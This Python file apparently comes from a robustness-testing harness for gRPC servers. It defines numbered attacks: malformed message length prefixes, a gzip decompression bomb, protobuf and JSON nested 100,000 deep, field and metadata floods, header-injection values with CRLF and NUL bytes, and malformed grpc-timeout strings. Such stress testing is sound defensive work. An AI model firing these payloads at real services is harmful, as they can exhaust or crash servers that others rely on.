"""Attacks by what frames carry: gRPC prefixes, compression, protobuf, metadata, deadlines."""
import gzip
import time
import zlib

from options import args
from wire import *
from world import *


@attack(15, "grpc")
def grpc_prefix(w):
    """Length 0xFFFFFFFF, odd flag bytes, a prefix in pieces, too few and too many bytes."""
    hello = text("hello")
    bodies = [message(hello, length=0xFFFFFFFF), message(hello, length=0x7FFFFFFF), message(hello, length=1 << 22),
              message(hello, length=3), message(hello, length=100), b"\0", b"\0\0\0", message(hello) * 2,
              message(hello) + b"\0\0", b""] + [message(hello, flag) for flag in (1, 2, 3, 127, 128, 255)]
    variants = [lambda c, b=b: call(c, b) for b in bodies]

    def pieces(c):
        s = c.next()
        c.send(request(s))
        for byte in message(hello):
            c.send(frame(DATA, 0, s, bytes([byte])) + frame(PING, 0, 0, b"12345678"))
        c.send(frame(DATA, END_STREAM, s))

    def many(c):
        for _ in range(100):
            s = c.next()
            c.send(request(s) + frame(DATA, 0, s, message(b"", length=0xFFFFFFFF)))
    w.each(variants + [pieces, many], 0.1)


def zeros(size):
    """gzip of zeros, 1000:1, with the right checksum."""
    step = 1 << 24
    machine, out, left = zlib.compressobj(9, zlib.DEFLATED, 31), b"", size
    block_of_zeros = bytes(step)
    while left:
        out += machine.compress(block_of_zeros[:min(step, left)])
        left -= min(step, left)
    return out + machine.flush()


@attack(16, "grpc")
def gzip_bomb(w):
    bomb, small = zeros(1 << 29), gzip.compress(text("hello"))
    w.until = time.monotonic() + args.seconds
    coded = [("grpc-encoding", "gzip")]

    def send(data, flag=1, more=coded):
        return lambda c: call(c, message(data, flag), more)

    def stream(c):
        s = c.next()
        c.send(request(s, more=coded, method="BidirectionalStreamingEcho"))
        for _ in range(4):
            c.send_data(s, message(bomb, 1), False)
    w.each([send(bomb), send(small[:-9]), send(small + b"trailing"), send(b""), send(small, more=[]), send(gzip.compress(small)),
            send(small, more=[("grpc-encoding", "no-such")]), send(text("hello")), send(small, 0), send(small * 1000),
            send(zlib.compress(text("x")), more=[("grpc-encoding", "deflate")]), stream, send(bomb), send(bomb)], 0.5)


@attack(17, "grpc")
def deep_nesting(w):
    """Groups 100,000 deep in protobuf, arrays and objects 100,000 deep in JSON."""
    deep = 100000

    def json(data):
        def body(c):
            s = c.next()
            c.send(headers(s, block([(":method", "POST"), (":scheme", "http"), (":path", args.service + "UnaryEcho"),
                                     (":authority", "x"), ("content-type", "application/json")])))
            c.send_data(s, data)
        return body
    w.each([lambda c: call(c, message(b"\x0b" * deep + b"\x0c" * deep)), lambda c: call(c, message(b"\x13" * deep)),
            json(b"[" * deep), json(b'{"a":' * deep + b"1" + b"}" * deep), json(b'{"message":' + b"[" * deep + b"]" * deep + b"}"),
            json(b'{"message":' + b"9" * deep + b"}"), json(b'{"message":1e' + b"9" * deep + b"}"),
            json(b'{"message":"' + b"\\ud800" * 1000 + b'"}')] * 2, 0.5)


@attack(18, "grpc")
def field_flood(w):
    """3 MB of two-byte fields, unknown ones and the known one over and over."""
    w.each([lambda c: call(c, message(b"\x10\x01" * 1500000)), lambda c: call(c, message(b"\x0a\x00" * 1500000)),
            lambda c: call(c, message(b"\x12\x00" * 1500000)),
            lambda c: call(c, message(b"\x0a\xff\xff\xff\xff\x0f")), lambda c: call(c, message(b"\xff" * 1000000)),
            lambda c: call(c, message(b"\x0a\x80\x80\x80\x80\x80\x80\x80\x80\x80\x01"))] * 2, 1)


@attack(19)
def metadata_flood(w):
    """10,000 fields; then names and values that no field may have."""
    odd = [("UPPER", "x"), ("nul\0", "x"), ("line\r\nset-cookie", "x"), ("space name", "x"), ("", "x"), ("x", "a\r\nb: c"),
           ("x", "nul\0"), ("x-echo-bytes-bin", "!!!not base64!!!"), ("x-echo-bytes-bin", "A"), ("connection", "close"),
           ("transfer-encoding", "chunked"), (":path", "/second"), (":unknown", "x"), ("te", "gzip"), ("content-length", "-1"),
           ("content-length", "99999999999999999999"), ("grpc-encoding", "%s" * 1000), ("content-type", "text/plain"),
           ("x-fail", "3 " + "%25" * 2000), ("x-fail", "99 code"), ("host", "a,b"), ("cookie", "a=b; " * 500), ("x", b"\xff\xfe\x80")]
    body = frame(DATA, END_STREAM, 1, message(text("x")))
    w.each([request(1, more=[pair]) + body for pair in odd], 0.05)

    def items(c):
        for _ in range(200):
            yield request(c.next(), more=[("x-%d" % i, "v") for i in range(10000)], end=True)
    w.flood(items, 1)


@attack(20, "grpc")
def timeouts(w):
    values = ["99999999H", "-1S", "123456789S", "", "S", "1", "0n", "0S", "1x", "1 S", " 1S", "+1S", "1.5S", "0x1S", "\u0661S",
              "99999999n", "99999999999999999999999999S", "1S, 2S"]
    w.each([lambda c, v=v: call(c, message(text("x")), [("grpc-timeout", v), ("x-sleep-ms", "50")]) for v in values], 0.1)
